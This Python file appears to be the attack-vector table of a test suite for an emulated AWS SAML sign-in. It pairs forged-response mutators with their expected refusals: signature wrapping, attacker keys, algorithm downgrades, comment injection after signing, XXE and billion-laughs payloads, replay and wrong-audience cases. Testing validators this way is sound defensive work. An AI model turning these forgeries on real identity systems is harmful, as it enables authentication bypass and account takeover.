    """SubjectConfirmationData NotOnOrAfter 3 minutes ago (Conditions still valid)."""
    set_instant(_subject_data(root), "NotOnOrAfter", _ago(3))


def _confirmation_not_before(root: etree._Element) -> None:
    """SubjectConfirmationData NotBefore 10 minutes ahead."""
    set_instant(_subject_data(root), "NotBefore", _ago(-10))


def _issued_long_ago(root: etree._Element) -> None:
    """Assertion IssueInstant 10 minutes ago (every NotOnOrAfter still in the future)."""
    set_instant(assertion_of(root), "IssueInstant", _ago(10))


def _issued_in_future(root: etree._Element) -> None:
    """Assertion IssueInstant 10 minutes ahead (everything else valid)."""
    set_instant(assertion_of(root), "IssueInstant", _ago(-10))


def _session_ended(root: etree._Element) -> None:
    """AuthnStatement SessionNotOnOrAfter one minute ago."""
    statement = assertion_of(root).find(f"{SAML}AuthnStatement")
    assert statement is not None
    set_instant(statement, "SessionNotOnOrAfter", _ago(1))


def _wrong_audience(root: etree._Element) -> None:
    """The only Audience is another SP's entityID."""
    audience = _conditions(root).find(f"{SAML}AudienceRestriction/{SAML}Audience")
    assert audience is not None
    audience.text = "https://evil.example/sp"


def _second_audience_restriction(root: etree._Element) -> None:
    """A second AudienceRestriction naming only another SP (each must be satisfied)."""
    restriction = etree.SubElement(_conditions(root), f"{SAML}AudienceRestriction")
    etree.SubElement(restriction, f"{SAML}Audience").text = "https://evil.example/sp"


def _wrong_recipient(root: etree._Element) -> None:
    """SubjectConfirmationData Recipient is another SP's ACS."""
    _subject_data(root).set("Recipient", EVIL_URL)


def _missing_recipient(root: etree._Element) -> None:
    """SubjectConfirmationData without a Recipient."""
    del _subject_data(root).attrib["Recipient"]


def _two_confirmations(root: etree._Element) -> None:
    """A second bearer SubjectConfirmation (for another Recipient)."""
    confirmation = _subject_data(root).getparent()
    assert confirmation is not None
    extra = copy.deepcopy(confirmation)
    extra_data = extra.find(f"{SAML}SubjectConfirmationData")
    assert extra_data is not None
    extra_data.set("Recipient", EVIL_URL)
    confirmation.addnext(extra)


def _wrong_destination(root: etree._Element) -> None:
    """Response Destination is another SP's ACS."""
    root.set("Destination", EVIL_URL)


def _wrong_issuer(root: etree._Element) -> None:
    """Issuer (Response and Assertion) is another IdP, signed with the configured key."""
    for issuer in (root.find(f"{SAML}Issuer"), assertion_of(root).find(f"{SAML}Issuer")):
        assert issuer is not None
        issuer.text = "https://other-idp.example/"


def _wrong_response_issuer(b64: str, keys: Keys) -> Attack:
    """Only the (unsigned) Response's Issuer names another IdP; the Assertion is untouched."""
    root = decode(b64)
    issuer = root.find(f"{SAML}Issuer")
    assert issuer is not None
    issuer.text = "https://other-idp.example/"
    return Attack(encode(root))


def _in_response_to(root: etree._Element) -> None:
    """InResponseTo="_req1" on Response and SubjectConfirmationData of a Response to AWS, which
    never sends AuthnRequests (SAML Profiles §4.1.5: an unsolicited Response carries none)."""
    root.set("InResponseTo", "_req1")
    _subject_data(root).set("InResponseTo", "_req1")


def _status_responder(root: etree._Element) -> None:
    """Top-level StatusCode Responder (the IdP refused the login)."""
    code = root.find(f"{SAMLP}Status/{SAMLP}StatusCode")
    assert code is not None
    code.set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")


def _role_values(*values: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        set_attribute(root, ROLE_ATTR, *values)
    edit.__doc__ = f"Role attribute set to {values}."
    return edit


def _session_name(value: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        set_attribute(root, SESSION_NAME_ATTR, value)
    edit.__doc__ = f"RoleSessionName set to {value!r}."
    return edit


def _no_session_name(root: etree._Element) -> None:
    """The RoleSessionName attribute removed."""
    remove_attribute(root, SESSION_NAME_ATTR)


def _source_identity(value: str) -> Callable[[etree._Element], None]:
    def edit(root: etree._Element) -> None:
        set_attribute(root, SOURCE_IDENTITY_ATTR, value)
    edit.__doc__ = f"SourceIdentity set to {value!r}."
    return edit


def replay(b64: str, keys: Keys) -> Attack:
    """The genuine Response, redeemed a second time."""
    return Attack(b64, replay=True)


def role_not_in_assertion(b64: str, keys: Keys) -> Attack:
    """bob's untouched Response, asking for Admin (not in his Role attribute)."""
    return Attack(b64, role_arn=ADMIN, role_index=ADMIN)


def role_pair_wrong_provider(b64: str, keys: Keys) -> Attack:
    """bob's ReadOnly role asked for through the other account's provider."""
    return Attack(b64, role_arn=READ_ONLY, principal_arn=DEV_PROVIDER)


# --- comment injection (CVE-2017-11427 family): the comment goes in *after* signing ------------


def _inject_after_signing(root_edit: Callable[[etree._Element], object], signed_text: str,
                          injected: str, **kwargs: str) -> Mutator:
    """The IdP signs ``signed_text``; the attacker then adds a comment (signature still valid)."""
    def mutator(b64: str, keys: Keys) -> Attack:
        root = decode(b64)
        root_edit(root)
        resign_assertion(root, keys.real)
        xml = etree.tostring(root)
        marker = f">{signed_text}<".encode()
        assert xml.count(marker) == 1, signed_text
        return Attack(_b64(xml.replace(marker, f">{injected}<".encode())), **kwargs)  # type: ignore[arg-type]
    return mutator


ATTACKER_NAME: Final = "admin.evil.test"
INJECTED_NAME: Final = "admin<!---->.evil.test"


def _attacker_name_id(root: etree._Element) -> None:
    name_id = assertion_of(root).find(f"{SAML}Subject/{SAML}NameID")
    assert name_id is not None
    name_id.text = ATTACKER_NAME


#: The Role value the IdP signs: provider-first (AWS accepts both orders), a role whose name
#: *starts* with Admin. Truncated at the comment (``.text``) it reads as the Admin pair.
CLONE_ROLE: Final = f"{PROD_PROVIDER},arn:aws:iam::{PROD}:role/Admin-ReadOnlyClone"

comment_in_name_id = _inject_after_signing(_attacker_name_id, ATTACKER_NAME, INJECTED_NAME)
comment_in_role_session_name = _inject_after_signing(
    _session_name(ATTACKER_NAME), ATTACKER_NAME, INJECTED_NAME)
comment_in_role = _inject_after_signing(
    _role_values(CLONE_ROLE), CLONE_ROLE, CLONE_ROLE.replace("role/Admin", "role/Admin<!---->"),
    role_arn=ADMIN)


# --- the table --------------------------------------------------------------------------------

_SIG = StsRefusal("InvalidIdentityToken", 400, SIGNATURE_INVALID)
_DENIED = StsRefusal("AccessDenied", 403, NOT_AUTHORIZED)


def _invalid(contains: str) -> StsRefusal:
    return StsRefusal("InvalidIdentityToken", 400, contains, exact=False)


def _expired(contains: str) -> StsRefusal:
    return StsRefusal("ExpiredTokenException", 400, contains, exact=False)


def _c(rule: str, status: int = 400) -> ConsoleRefusal:
    return ConsoleRefusal(rule, status)


_ONE_ASSERTION = _invalid("exactly one Assertion")
_NOT_XML = _invalid("not acceptable XML")
#: The transport check (``decode_assertion``): what follows base64 must start with ``<``.
_NOT_XML_B64 = StsRefusal("InvalidIdentityToken", 400, "Invalid SAML response: not XML")

VECTORS: Final[dict[str, Vector]] = {
    # XML signature wrapping
    "xsw1": Vector(xsw1, _ONE_ASSERTION, _c("structure")),
    "xsw2": Vector(xsw2, _ONE_ASSERTION, _c("structure")),
    "xsw3": Vector(xsw3, _ONE_ASSERTION, _c("structure")),
    "xsw4": Vector(xsw4, _ONE_ASSERTION, _c("structure")),
    "xsw5": Vector(xsw5, _ONE_ASSERTION, _c("structure")),
    "xsw6": Vector(xsw6, _ONE_ASSERTION, _c("structure")),
    "xsw7": Vector(xsw7, _ONE_ASSERTION, _c("structure")),
    "xsw8": Vector(xsw8, _ONE_ASSERTION, _c("structure")),
    "xsw9": Vector(xsw9, _ONE_ASSERTION, _c("structure")),
    "xsw10": Vector(xsw10, _invalid("DOCTYPE"), _c("xml")),
    # other signature attacks
    "signature_stripped": Vector(signature_stripped, _SIG, _c("signature-missing")),
    "signature_value_empty": Vector(signature_value_empty, _SIG, _c("signature-shape")),
    "signature_value_garbage": Vector(signature_value_garbage, _SIG, _c("signature-invalid")),
    "signature_value_not_base64": Vector(signature_value_not_base64, _SIG,
                                         _c("signature-shape")),
    "key_info_empty": Vector(key_info_empty, _SIG, _c("signature-invalid")),
    "attacker_key": Vector(attacker_key, _SIG, _c("signature-invalid")),
    "attacker_key_cloned_dn": Vector(attacker_key_cloned_dn, _SIG, _c("signature-invalid")),
    "attacker_key_real_cert_in_keyinfo": Vector(attacker_key_real_cert_in_keyinfo, _SIG,
                                                _c("signature-invalid")),
    "reference_unrelated_element": Vector(reference_unrelated_element, _SIG,
                                          _c("signature-shape")),
    "reference_uri_empty": Vector(reference_uri_empty, _SIG, _c("signature-shape")),
    "second_reference": Vector(second_reference, _SIG, _c("signature-shape")),
    "duplicate_ids": Vector(duplicate_ids, _invalid("same ID"), _c("structure")),
    "two_assertions_both_signed": Vector(two_assertions_both_signed, _ONE_ASSERTION,
                                         _c("structure")),
    "two_assertions_one_unsigned": Vector(two_assertions_one_unsigned, _ONE_ASSERTION,
                                          _c("structure")),
    "foreign_namespace_assertion": Vector(foreign_namespace_assertion, _ONE_ASSERTION,
                                          _c("structure")),
    "encrypted_assertion_decoy": Vector(encrypted_assertion_decoy, _invalid("encrypted"),
                                        _c("structure")),
    "not_a_response": Vector(not_a_response, _invalid("not a samlp:Response"),
                             _c("structure")),
    # downgrades and transforms
    "sha1_downgrade": Vector(sha1_downgrade, _SIG, _c("signature-algorithm")),
    "md5_digest": Vector(md5_digest, _SIG, _c("signature-algorithm")),
    "hmac_with_certificate": Vector(hmac_with_certificate, _SIG, _c("signature-algorithm")),
    "c14n_with_comments": Vector(c14n_with_comments, _SIG, _c("signature-algorithm")),
    "xslt_transform": Vector(xslt_transform, _SIG, _c("signature-algorithm")),
    "xslt_transform_injected": Vector(xslt_transform_injected, _SIG, _c("signature-algorithm")),
    "xpath_transform": Vector(xpath_transform, _SIG, _c("signature-algorithm")),
    "comment_in_digest_value": Vector(comment_in_digest_value, _SIG, _c("signature-shape")),
    "digest_value_outside_reference": Vector(digest_value_outside_reference, _SIG,
                                             _c("signature-invalid")),
    "second_signed_info": Vector(second_signed_info, _SIG, _c("signature-shape")),
    # comment injection: the full signed value, never the truncated one
    "comment_in_name_id": Vector(comment_in_name_id, StsAccept(BOB_SESSION, ATTACKER_NAME),
                                 ConsoleAccept(BOB_SESSION, ATTACKER_NAME)),
    "comment_in_role_session_name": Vector(comment_in_role_session_name,
                                           StsAccept(ATTACKER_NAME),
                                           ConsoleAccept(ATTACKER_NAME)),
    "comment_in_role": Vector(comment_in_role, _DENIED, _c("role-missing", 403)),
    # XML level
    "doctype": Vector(doctype, _invalid("DOCTYPE"), _c("xml")),
    "xxe_file": Vector(xxe_file, _invalid("DOCTYPE"), _c("xml")),
    "xxe_parameter_entity": Vector(xxe_parameter_entity, _invalid("DOCTYPE"), _c("xml")),
    "xxe_parameter_entity_dev_zero": Vector(xxe_parameter_entity_dev_zero,
                                            _invalid("DOCTYPE"), _c("xml")),
    "billion_laughs": Vector(billion_laughs, _invalid("DOCTYPE"), _c("xml")),
    "xinclude": Vector(xinclude, _invalid("XInclude"), _c("xml")),
    "processing_instruction_xslt": Vector(processing_instruction_xslt, _SIG,
                                          _c("signature-invalid")),
    "oversize": Vector(oversize, StsRefusal("ValidationError", 400, TOO_LONG),
                       _c("ValidationError")),
    "deep_nesting": Vector(deep_nesting, _NOT_XML, _c("xml")),
    "utf16_with_bom": Vector(utf16_with_bom, _NOT_XML_B64, _c("base64")),
    "utf16_without_bom": Vector(utf16_without_bom, _invalid("UTF-16"), _c("xml")),
    "latin1_declared": Vector(latin1_declared, _invalid("ISO-8859-1; send UTF-8"), _c("xml")),
    "utf8_bom": Vector(utf8_bom, _NOT_XML_B64, _c("base64")),
    "base64_junk": Vector(base64_junk, StsRefusal(
        "InvalidIdentityToken", 400, "Invalid SAML response: not valid base64"), _c("base64")),
    "base64_trailing_junk": Vector(base64_trailing_junk, StsRefusal(
        "InvalidIdentityToken", 400, "Invalid SAML response: not valid base64"), _c("base64")),
    "deflated": Vector(deflated, _NOT_XML_B64, _c("base64")),
    # replay and time
    # AWS's default (``idp.aws.replay``): the console takes an assertion once; STS again
    # while it is valid (strict mode refuses it: tests/aws/test_replay.py).
    "replay": Vector(replay, StsAccept(BOB_SESSION), _c("replay")),
    "conditions_expired": Vector(_idp_signed(_expire_conditions),
                                 _expired("Conditions NotOnOrAfter"), _c("expired")),
    "conditions_not_yet_valid": Vector(_idp_signed(_conditions_not_before),
                                       _invalid("Conditions NotBefore"), _c("not-yet-valid")),
    "confirmation_expired": Vector(_idp_signed(_expire_confirmation),
                                   _expired("SubjectConfirmationData NotOnOrAfter"),
                                   _c("expired")),
    "confirmation_not_yet_valid": Vector(_idp_signed(_confirmation_not_before),
                                         _invalid("SubjectConfirmationData NotBefore"),
                                         _c("not-yet-valid")),
    "issue_instant_too_old": Vector(_idp_signed(_issued_long_ago), StsRefusal(
        "ExpiredTokenException", 400, "Token must be redeemed within 5 minutes of issuance"),
        _c("stale")),
    "issue_instant_in_future": Vector(_idp_signed(_issued_in_future),
                                      _invalid("IssueInstant is in the future"),
                                      _c("not-yet-valid")),
    "session_not_on_or_after_passed": Vector(_idp_signed(_session_ended),
                                             StsRefusal("ExpiredTokenException", 400,
                                                        "SessionNotOnOrAfter has passed"),
                                             _c("session-end")),
    # audience, recipient, destination, issuer, InResponseTo, status
    "wrong_audience": Vector(_idp_signed(_wrong_audience), StsRefusal(
        "InvalidIdentityToken", 400, "Response does not contain the required audience."),
        _c("audience")),
    "second_audience_restriction": Vector(_idp_signed(_second_audience_restriction), StsRefusal(
        "InvalidIdentityToken", 400, "Response does not contain the required audience."),
        _c("audience")),
    "wrong_recipient": Vector(_idp_signed(_wrong_recipient), _invalid(f"Recipient {EVIL_URL}"),
                              _c("recipient")),
    "missing_recipient": Vector(_idp_signed(_missing_recipient), _invalid("Recipient"),
                                _c("subject-confirmation")),
    "two_subject_confirmations": Vector(_idp_signed(_two_confirmations),
                                        _invalid("exactly one bearer SubjectConfirmation"),
                                        _c("subject-confirmation")),
    "wrong_destination": Vector(_idp_signed(_wrong_destination),
                                _invalid(f"Destination {EVIL_URL}"), _c("destination")),
    "wrong_issuer": Vector(_idp_signed(_wrong_issuer), StsRefusal(
        "InvalidIdentityToken", 400, "Issuer not present in specified provider"), _c("issuer")),
    "wrong_response_issuer": Vector(_wrong_response_issuer, StsRefusal(
        "InvalidIdentityToken", 400, "Issuer not present in specified provider"), _c("issuer")),
    # STS tolerates InResponseTo as AWS does (ECP clients); the console twin refuses it.
    "in_response_to_unsolicited": Vector(_idp_signed(_in_response_to), StsAccept(BOB_SESSION),
                                         _c("in-response-to")),
    "status_not_success": Vector(_idp_signed(_status_responder),
                                 _invalid("urn:oasis:names:tc:SAML:2.0:status:Responder"),
                                 _c("status")),
    # roles and session attributes
    "role_not_in_assertion": Vector(role_not_in_assertion, _DENIED, _c("role-choice")),
    "role_pair_wrong_provider": Vector(role_pair_wrong_provider, _DENIED,
                                       ConsoleAccept(BOB_SESSION)),
    "role_pair_cross_account": Vector(
        _idp_signed(_role_values(f"{DEVELOPER},{PROD_PROVIDER}"), role_arn=DEVELOPER),
        _DENIED, _c("role-missing", 403)),
    "role_pair_unknown_account": Vector(
        _idp_signed(_role_values(f"arn:aws:iam::{OTHER_ACCOUNT}:role/Admin,"
                                 f"arn:aws:iam::{OTHER_ACCOUNT}:saml-provider/CorpIdP"),
                    role_arn=f"arn:aws:iam::{OTHER_ACCOUNT}:role/Admin"),
        _DENIED, _c("provider")),
    "role_session_name_space": Vector(_idp_signed(_session_name("bob smith")), StsRefusal(
        "InvalidIdentityToken", 400, SESSION_NAME_RULE), _c("role-session-name")),
    "role_session_name_one_char": Vector(_idp_signed(_session_name("b")), StsRefusal(
        "InvalidIdentityToken", 400, SESSION_NAME_RULE), _c("role-session-name")),
    "role_session_name_too_long": Vector(_idp_signed(_session_name("b" * 65)), StsRefusal(
        "InvalidIdentityToken", 400, SESSION_NAME_RULE), _c("role-session-name")),
    "role_session_name_missing": Vector(_idp_signed(_no_session_name), StsRefusal(
        "InvalidIdentityToken", 400, "RoleSessionName is required in AuthnResponse"),
        _c("role-session-name")),
    "source_identity_aws_prefix": Vector(_idp_signed(_source_identity("aws:x")), StsRefusal(
        "InvalidIdentityToken", 400, SOURCE_IDENTITY_RULE), _c("source-identity")),
    "source_identity_space": Vector(_idp_signed(_source_identity("bob smith")), StsRefusal(
        "InvalidIdentityToken", 400, SOURCE_IDENTITY_RULE), _c("source-identity")),
}
